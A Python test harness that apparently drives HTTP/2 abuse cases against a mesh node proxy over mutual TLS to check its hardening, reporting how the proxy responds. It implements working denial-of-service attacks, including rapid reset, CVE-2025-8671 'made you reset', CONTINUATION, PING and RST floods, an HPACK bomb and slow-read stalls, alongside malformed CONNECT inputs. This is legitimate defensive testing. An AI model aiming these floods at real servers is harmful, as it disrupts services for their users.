#!/usr/bin/env python3
"""An HTTP/2 attacker for the node proxy's hardening tests: one attack (or one piece of bad HBONE input) per run,
spoken with raw frames over mutual TLS (an insider holding a valid mesh certificate), so that nothing in an HTTP/2
library refuses to send what the test needs.

  h2_abuse.py --cert C --key K --peer 127.0.7.1:15008 --authority 127.0.7.1:8080 ATTACK [--seconds N]

Prints one JSON object: what the proxy did ("goaway" with its code, "eof", resets, statuses seen) and how long it
took. Nothing here shares code with the Java implementation. TLS is driven through ssl.MemoryBIO on a non-blocking
socket, so an attack can stop reading (slow read, zero window) while it keeps writing, in a single thread.

The HPACK encoding is written by hand (literals without indexing, no Huffman) so that bad and oversized header
blocks can be built; responses are decoded with the hpack module that ships with python-h2.
"""
import argparse
import json
import os
import select
import socket
import ssl
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL, PROTOCOL_ERROR = 0x8, 0x1
SETTINGS_INITIAL_WINDOW_SIZE = 0x4


def frame(ftype, flags, sid, payload=b"", length=None):
    n = len(payload) if length is None else length
    return struct.pack(">I", n)[1:] + bytes([ftype, flags]) + struct.pack(">I", sid & 0x7FFFFFFF) + payload


def hpack_int(value, prefix_bits, first_byte=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out = bytearray([first_byte | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name, value, indexing=False):
    """A literal header with a new name; with incremental indexing when asked, else without indexing."""
    name, value = name.encode(), value.encode() if isinstance(value, str) else value
    first = b"\x40" if indexing else b"\x00"
    return first + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def block(*pairs):
    return b"".join(literal(n, v) for n, v in pairs)


def connect_block(authority):
    return block((":method", "CONNECT"), (":authority", authority))


class Conn:
    """One TLS connection to the proxy, driven without threads; records what the proxy sends."""

    def __init__(self, args, alpn=("h2",), tls=True, rcvbuf=None):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:  # a small receive buffer: what the proxy sends backs up on its side instead of in our kernel
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.sock.settimeout(10)
        self.sock.connect(args.peer_addr)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        self.tls = tls
        self.out = bytearray()          # encrypted (or plain) bytes waiting for the socket
        self.inbuf = bytearray()        # decrypted bytes not yet parsed as frames
        self.closed = False
        self.goaway = None
        self.resets = {}                # stream -> error code
        self.statuses = {}              # stream -> :status
        self.data = {}                  # stream -> bytes received
        self.ended = set()              # streams ended by the peer
        self.window_updates = 0
        self.server_settings = {}
        self.frames_in = 0
        self.start = time.monotonic()
        self.closed_at = None
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 30
        self.pending_block = None
        self.ack_data = True            # give DATA's flow-control window back (False: a reader that stalls)
        self.send_conn_window = 65535   # what the proxy lets us send
        self.send_windows = {}          # stream -> window
        self.peer_initial_window = 65535
        if tls:
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            ctx.minimum_version = ssl.TLSVersion.TLSv1_3
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE      # an attacker does not care who the proxy is
            ctx.load_cert_chain(args.cert, args.key)
            if alpn:
                ctx.set_alpn_protocols(list(alpn))
            self.inc, self.outg = ssl.MemoryBIO(), ssl.MemoryBIO()
            self.ssl = ctx.wrap_bio(self.inc, self.outg, server_side=False)
            deadline = time.monotonic() + 10
            while True:
                try:
                    self.ssl.do_handshake()
                    break
                except ssl.SSLWantReadError:
                    self._flush_tls()
                    if not self._read_socket(0.2) and time.monotonic() > deadline:
                        raise TimeoutError("TLS handshake timed out")
                    if self.closed:
                        raise ConnectionError("closed during the TLS handshake")
            self._flush_tls()

    # ------------------------------------------------------------------ I/O
    def _flush_tls(self):
        if self.tls:
            pending = self.outg.read()
            if pending:
                self.out += pending
        self._write_socket()

    def _write_socket(self):
        while self.out and not self.closed:
            try:
                n = self.sock.send(self.out[:1 << 20])
            except (BlockingIOError, ssl.SSLWantWriteError):
                return
            except OSError:
                self._mark_closed()
                return
            del self.out[:n]

    def _read_socket(self, timeout):
        r, _, _ = select.select([self.sock], [], [], timeout)
        if not r:
            return False
        try:
            chunk = self.sock.recv(1 << 20)
        except BlockingIOError:
            return False
        except OSError:
            self._mark_closed()
            return True
        if not chunk:
            self._mark_closed()
            return True
        if self.tls:
            self.inc.write(chunk)
        else:
            self.inbuf += chunk
        return True

    def _mark_closed(self):
        if not self.closed:
            self.closed = True
            self.closed_at = time.monotonic()

    def send(self, data):
        if self.closed:
            return
        if self.tls:
            try:
                self.ssl.write(data)
            except ssl.SSLError:
                self._mark_closed()
                return
        else:
            self.out += data
        self._flush_tls()

    def backlog(self):
        return len(self.out)

    def pump(self, timeout=0.0, read=True):
        """Writes what it can; when `read`, reads and parses what has arrived (waiting up to `timeout`)."""
        self._flush_tls()
        if not read:
            if timeout:
                select.select([], [self.sock] if self.out else [], [], timeout)
                self._write_socket()
            return
        got = self._read_socket(timeout)
        while got and not self.closed:
            got = self._read_socket(0)
        if self.tls:
            while True:
                try:
                    plain = self.ssl.read(1 << 20)
                except ssl.SSLWantReadError:
                    break
                except (ssl.SSLZeroReturnError, ssl.SSLError):
                    self._mark_closed()
                    break
                if not plain:
                    self._mark_closed()
                    break
                self.inbuf += plain
        self._parse()
        self._flush_tls()

    def _parse(self):
        while len(self.inbuf) >= 9:
            length = int.from_bytes(self.inbuf[0:3], "big")
            if len(self.inbuf) < 9 + length:
                return
            ftype, flags = self.inbuf[3], self.inbuf[4]
            sid = int.from_bytes(self.inbuf[5:9], "big") & 0x7FFFFFFF
            payload = bytes(self.inbuf[9:9 + length])
            del self.inbuf[:9 + length]
            self.frames_in += 1
            self._on_frame(ftype, flags, sid, payload)

    def _on_frame(self, ftype, flags, sid, payload):
        if ftype == GOAWAY:
            self.goaway = int.from_bytes(payload[4:8], "big")
            if self.closed_at is None:
                self.closed_at = time.monotonic()
        elif ftype == RST_STREAM:
            self.resets[sid] = int.from_bytes(payload[0:4], "big")
            self.ended.add(sid)
        elif ftype == SETTINGS and not flags & ACK:
            for i in range(0, len(payload) - 5, 6):
                ident, value = struct.unpack(">HI", payload[i:i + 6])
                self.server_settings[ident] = value
                if ident == SETTINGS_INITIAL_WINDOW_SIZE:
                    for k in self.send_windows:
                        self.send_windows[k] += value - self.peer_initial_window
                    self.peer_initial_window = value
            self.send(frame(SETTINGS, ACK, 0))
        elif ftype == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, payload))
        elif ftype == WINDOW_UPDATE:
            self.window_updates += 1
            inc = int.from_bytes(payload[0:4], "big") & 0x7FFFFFFF
            if sid == 0:
                self.send_conn_window += inc
            else:
                self.send_windows[sid] = self.send_windows.get(sid, self.peer_initial_window) + inc
        elif ftype in (HEADERS, CONTINUATION):
            if ftype == HEADERS:
                pad = payload[0] if flags & 0x8 else 0
                start = (1 if flags & 0x8 else 0) + (5 if flags & 0x20 else 0)
                self.pending_block = (sid, bytearray(payload[start:len(payload) - pad]), flags)
            else:
                self.pending_block[1].extend(payload)
            if flags & END_HEADERS:
                bsid, blk, hflags = self.pending_block
                headers = dict(self.decoder.decode(bytes(blk)))
                if ":status" in headers and bsid not in self.statuses:
                    self.statuses[bsid] = headers[":status"]
                if hflags & END_STREAM:
                    self.ended.add(bsid)
        elif ftype == DATA:
            self.data[sid] = self.data.get(sid, 0) + len(payload)
            if flags & END_STREAM:
                self.ended.add(sid)
            if payload and self.ack_data:  # give the window back, as a well-behaved reader
                inc = struct.pack(">I", len(payload))
                self.send(frame(WINDOW_UPDATE, 0, 0, inc) + frame(WINDOW_UPDATE, 0, sid, inc))

    def start_h2(self, settings=b""):
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def wait(self, condition, seconds):
        deadline = time.monotonic() + seconds
        while not condition() and not self.closed and time.monotonic() < deadline:
            self.pump(0.1)
        return condition()

    def result(self, **extra):
        out = {
            "closed": self.closed or self.goaway is not None,
            "goaway": self.goaway,
            "eof": self.closed,
            "resets": len(self.resets),
            "reset_codes": sorted(set(self.resets.values())),
            "statuses": sorted(set(self.statuses.values())),
            "seconds": round((self.closed_at or time.monotonic()) - self.start, 3),
            "frames_in": self.frames_in,
        }
        out.update(extra)
        return out


def open_stream(c, sid, authority, end_stream=False):
    c.send(frame(HEADERS, END_HEADERS | (END_STREAM if end_stream else 0), sid, connect_block(authority)))


# ------------------------------------------------------------------------------------------------------ attacks
def flood(c, make, args, read=True, limit=None, seconds=None):
    """Sends make(i) as fast as the socket takes it until the proxy closes, `limit` frames or the time budget."""
    sent, i = 0, 0
    deadline = time.monotonic() + (seconds or args.seconds)
    while not c.closed and c.goaway is None and time.monotonic() < deadline and (limit is None or i < limit):
        if c.backlog() < (4 << 20):
            chunk = b"".join(make(i + k) for k in range(100))
            c.send(chunk)
            i += 100
            sent += len(chunk)
        c.pump(0 if c.backlog() < (4 << 20) else 0.05, read=read)
    return i, sent


def rapid_reset(c, args):
    c.start_h2()
    n, sent = flood(c, lambda i: frame(HEADERS, END_HEADERS, 1 + 2 * i, connect_block(args.authority))
                    + frame(RST_STREAM, 0, 1 + 2 * i, struct.pack(">I", CANCEL)), args)
    c.wait(lambda: False, 3)
    return c.result(streams=n, bytes_sent=sent)


def made_you_reset(c, args):
    # Each stream is valid, then made invalid (WINDOW_UPDATE with a zero increment: a stream error), so the *server*
    # resets it after it has started the work (CVE-2025-8671).
    c.start_h2()
    n, sent = flood(c, lambda i: frame(HEADERS, END_HEADERS, 1 + 2 * i, connect_block(args.authority))
                    + frame(WINDOW_UPDATE, 0, 1 + 2 * i, struct.pack(">I", 0)), args)
    c.wait(lambda: False, 3)
    return c.result(streams=n, bytes_sent=sent)


def continuation_flood(c, args, zero=False):
    c.start_h2()
    c.send(frame(HEADERS, 0, 1, connect_block(args.authority)))  # no END_HEADERS: a header block that never ends
    junk = b"" if zero else literal("x-junk", "j" * 16000)
    n, sent = flood(c, lambda i: frame(CONTINUATION, 0, 1, junk), args)
    c.wait(lambda: False, 3)
    return c.result(frames=n, bytes_sent=sent)


def ping_flood(c, args):
    c.start_h2()
    # until the proxy closes: its answers fill the kernel buffers, then its queue of control frames hits the limit
    n, sent = flood(c, lambda i: frame(PING, 0, 0, struct.pack(">Q", i)), args, read=False, limit=5_000_000,
                    seconds=max(args.seconds, 20))
    c.wait(lambda: False, 5)
    return c.result(frames=n, bytes_sent=sent)


def settings_flood(c, args):
    c.start_h2()
    n, sent = flood(c, lambda i: frame(SETTINGS, 0, 0, struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 65535)),
                    args, read=False, limit=5_000_000, seconds=max(args.seconds, 20))
    c.wait(lambda: False, 5)
    return c.result(frames=n, bytes_sent=sent)


def rst_flood(c, args):
    # CVE-2019-9514: requests the proxy must refuse with RST_STREAM (an upper-case header name is malformed in
    # HTTP/2), as fast as possible, never reading what the proxy answers.
    c.start_h2()
    bad = connect_block(args.authority) + literal("X-Upper", "1")
    n, sent = flood(c, lambda i: frame(HEADERS, END_HEADERS, 1 + 2 * i, bad), args, read=False)
    c.wait(lambda: False, 3)
    return c.result(streams=n, bytes_sent=sent)


def rst_closed_flood(c, args):
    # RST_STREAM for a stream already closed, again and again: nothing to answer, only frames to parse. Netty's
    # reset limit counts only resets of live streams; the idle-frame limit ends it with GOAWAY(ENHANCE_YOUR_CALM).
    c.start_h2()
    open_stream(c, 1, args.authority)
    c.send(frame(RST_STREAM, 0, 1, struct.pack(">I", CANCEL)))
    n, sent = flood(c, lambda i: frame(RST_STREAM, 0, 1, struct.pack(">I", CANCEL)), args)
    c.wait(lambda: False, 1)
    return c.result(frames=n, bytes_sent=sent)


def window_update_flood(c, args):
    # WINDOW_UPDATE (increment 1) on an open tunnel the proxy sends nothing on, as fast as possible: each one is
    # legal, none is answered; the proxy allows a budget per DATA frame it sent.
    c.start_h2()
    open_stream(c, 1, args.authority)
    c.wait(lambda: 1 in c.statuses, 10)
    n, sent = flood(c, lambda i: frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)), args)
    c.wait(lambda: False, 1)
    return c.result(frames=n, bytes_sent=sent)


def empty_data(c, args):
    c.start_h2()
    open_stream(c, 1, args.authority)
    c.wait(lambda: 1 in c.statuses, 10)
    n, sent = flood(c, lambda i: frame(DATA, 0, 1, b""), args)
    c.wait(lambda: False, 3)
    return c.result(frames=n, bytes_sent=sent)


def hpack_bomb(c, args):
    # One 4000-byte header enters the proxy's dynamic table, then every further header is a one-byte reference to
    # it: 16 KiB of header block that decompresses to ~64 MB.
    c.start_h2()
    big = literal("x-bomb", "b" * 4000, indexing=True)
    refs = bytes([0x80 | 62]) * 16000
    blk = connect_block(args.authority) + big + refs
    c.send(frame(HEADERS, END_HEADERS, 1, blk))
    for i in range(1, 50):
        c.send(frame(HEADERS, END_HEADERS, 1 + 2 * i, connect_block(args.authority) + refs))
    c.wait(lambda: len(c.ended) >= 50, 10)
    c.wait(lambda: False, 2)
    return c.result(streams=50)


def huge_headers(c, args):
    # 1000 headers of 1 KiB (1 MiB of header list) in a HEADERS frame and CONTINUATIONs of 16 KiB.
    c.start_h2()
    blk = connect_block(args.authority) + b"".join(literal("x-h%d" % i, "v" * 1024) for i in range(1000))
    pieces = [blk[i:i + 16384] for i in range(0, len(blk), 16384)]
    c.send(frame(HEADERS, 0, 1, pieces[0]))
    for i, p in enumerate(pieces[1:]):
        c.send(frame(CONTINUATION, END_HEADERS if i == len(pieces) - 2 else 0, 1, p))
    c.wait(lambda: 1 in c.ended, 10)
    c.wait(lambda: False, 1)
    return c.result()


def push_until_stuck(c, args, our_window):
    """Sends DATA on an echo tunnel as long as the proxy grants flow-control window, while never giving back window
    for the echo: the proxy must stop granting window (backpressure) once it cannot deliver the echo, instead of
    buffering what we push. Reports how much it accepted."""
    c.ack_data = False
    c.start_h2(struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, our_window))
    open_stream(c, 1, args.authority)
    c.wait(lambda: 1 in c.statuses, 10)
    c.send_windows.setdefault(1, c.peer_initial_window)
    sent, last_progress = 0, time.monotonic()
    chunk = os.urandom(16384)
    deadline = time.monotonic() + max(args.seconds, 10)
    stuck = False
    while not c.closed and c.goaway is None and 1 not in c.resets and time.monotonic() < deadline:
        n = min(len(chunk), c.send_conn_window, c.send_windows[1])
        if n > 0 and c.backlog() < (1 << 20):
            c.send(frame(DATA, 0, 1, chunk[:n]))
            c.send_conn_window -= n
            c.send_windows[1] -= n
            sent += n
            last_progress = time.monotonic()
        elif time.monotonic() - last_progress > 2:
            stuck = True  # the proxy stopped granting window
            break
        c.pump(0 if n > 0 else 0.05)
    return c.result(bytes_accepted=sent, stuck=stuck, echoed=c.data.get(1, 0))


def zero_window(c, args):
    return push_until_stuck(c, args, 0)


def slow_read(c, args):
    # TCP-level: the window we grant is normal, but we never read past it (nor return it): a reader that stalls.
    return push_until_stuck(c, args, 65535)


def dribble(c, args):
    # A legitimate but expensive tunnel: 20 000 one-byte DATA frames; every byte must come back.
    c.start_h2()
    open_stream(c, 1, args.authority)
    c.wait(lambda: 1 in c.statuses, 10)
    n, sent = flood(c, lambda i: frame(DATA, 0, 1, b"d"), args, limit=20_000)
    c.send(frame(DATA, END_STREAM, 1, b""))
    c.wait(lambda: 1 in c.ended, 30)
    return c.result(frames=n, echoed=c.data.get(1, 0), completed=1 in c.ended and c.data.get(1, 0) == n)


# ----------------------------------------------------------------------------------------- bad HBONE input
def one_request(c, blk, extra=b"", wait_for=1):
    c.start_h2()
    c.send(frame(HEADERS, END_HEADERS, 1, blk) + extra)
    c.wait(lambda: wait_for in c.ended, 10)
    return c.result()


def bad_not_connect(c, args):
    return one_request(c, block((":method", "GET"), (":scheme", "https"), (":path", "/"),
                                (":authority", args.authority)))


def bad_connect_with_path(c, args):
    return one_request(c, connect_block(args.authority) + block((":path", "/"), (":scheme", "https")))


def bad_no_authority(c, args):
    return one_request(c, block((":method", "CONNECT")))


def bad_malformed_authority(c, args):
    return one_request(c, block((":method", "CONNECT"), (":authority", "user@" + args.authority + "/x")))


def bad_own_port(c, args):
    return one_request(c, connect_block(args.authority.rsplit(":", 1)[0] + ":15008"))


def bad_other_ip(c, args):
    return one_request(c, connect_block(args.other_authority))


def bad_data_before_200(c, args):
    return one_request(c, connect_block(args.authority), frame(DATA, 0, 1, b"too early"))


def bad_headers_after_200(c, args):
    c.start_h2()
    open_stream(c, 1, args.authority)
    c.wait(lambda: 1 in c.statuses, 10)
    c.send(frame(HEADERS, END_HEADERS, 1, block(("x-late", "1"))))
    c.wait(lambda: 1 in c.ended, 10)
    return c.result()


def bad_too_many_streams(c, args):
    c.start_h2()
    c.wait(lambda: 3 in c.server_settings, 10)
    limit = c.server_settings.get(3, 200)  # SETTINGS_MAX_CONCURRENT_STREAMS
    frames = b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, connect_block(args.authority)) for i in range(limit + 5))
    c.send(frames)
    last = 1 + 2 * (limit + 4)
    c.wait(lambda: last in c.ended, 20)
    refused = [sid for sid, code in c.resets.items() if code == 0x7]  # REFUSED_STREAM
    return c.result(limit=limit, refused=len(refused), answered=len(c.statuses))


def bad_oversized_frame(c, args):
    c.start_h2()
    c.wait(lambda: 5 in c.server_settings or c.frames_in > 0, 5)
    max_frame = c.server_settings.get(5, 16384)
    c.send(frame(DATA, 0, 1, b"x" * 64, length=max_frame + 1))
    c.wait(lambda: False, 5)
    return c.result(max_frame=max_frame)


def bad_http11(c, args):
    c.send(b"GET / HTTP/1.1\r\nHost: " + args.authority.encode() + b"\r\n\r\n")
    c.wait(lambda: False, 5)
    return c.result()


def bad_not_tls(args):
    c = Conn(args, tls=False)
    c.send(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" + PREFACE)
    c.wait(lambda: False, 10)
    return c.result(bytes_in=len(c.inbuf))


# ------------------------------------------------------------------------------------------------------ faults
def plain_connect(c, args):
    """One ordinary CONNECT; reports the status (or reset) and how long the answer took."""
    c.start_h2()
    open_stream(c, 1, args.authority)
    c.wait(lambda: 1 in c.statuses or 1 in c.ended, 60)
    return c.result()


def hold(c, args):
    """An established tunnel that sends a greeting, then waits (up to 60 s) for the stream or connection to end:
    prints "ESTABLISHED" once the 200 is in, so a test can kill this process (the peer dies mid-stream) or the
    upstream (the other side must see a reset or an end, not a hang)."""
    c.start_h2()
    open_stream(c, 1, args.authority)
    c.wait(lambda: 1 in c.statuses or 1 in c.ended, 30)
    c.send(frame(DATA, 0, 1, b"hello"))
    print("ESTABLISHED", flush=True)
    c.wait(lambda: 1 in c.ended, 60)
    return c.result(ended=1 in c.ended, received=c.data.get(1, 0))


ATTACKS = {
    "rapid_reset": rapid_reset, "made_you_reset": made_you_reset,
    "continuation_flood": continuation_flood,
    "continuation_zero": lambda c, a: continuation_flood(c, a, zero=True),
    "ping_flood": ping_flood, "settings_flood": settings_flood, "rst_flood": rst_flood, "rst_closed_flood": rst_closed_flood, "window_update_flood": window_update_flood,
    "empty_data": empty_data,
    "hpack_bomb": hpack_bomb, "huge_headers": huge_headers, "zero_window": zero_window, "slow_read": slow_read,
    "dribble": dribble,
    "not_connect": bad_not_connect, "connect_with_path": bad_connect_with_path, "no_authority": bad_no_authority,
    "malformed_authority": bad_malformed_authority, "own_port": bad_own_port, "other_ip": bad_other_ip,
    "data_before_200": bad_data_before_200, "headers_after_200": bad_headers_after_200,
    "too_many_streams": bad_too_many_streams, "plain_connect": plain_connect, "hold": hold, "oversized_frame": bad_oversized_frame, "http11": bad_http11,
}


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--cert", required=True)
    p.add_argument("--key", required=True)
    p.add_argument("--peer", required=True)
    p.add_argument("--authority", required=True, help="a CONNECT authority the proxy accepts (an echo)")
    p.add_argument("--other-authority", default="127.0.0.99:80", help="an IP that is not the connection's")
    p.add_argument("--seconds", type=float, default=5, help="time budget of a flood")
    p.add_argument("attack", choices=sorted(list(ATTACKS) + ["not_tls"]))
    args = p.parse_args()
    host, port = args.peer.rsplit(":", 1)
    args.peer_addr = (host, int(port))
    started = time.monotonic()
    if args.attack == "not_tls":
        out = bad_not_tls(args)
    else:
        small = args.attack in ("ping_flood", "settings_flood", "rst_flood")
        c = Conn(args, rcvbuf=4096 if small else None)
        out = ATTACKS[args.attack](c, args)
    out["attack"] = args.attack
    out["total_seconds"] = round(time.monotonic() - started, 3)
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    main()
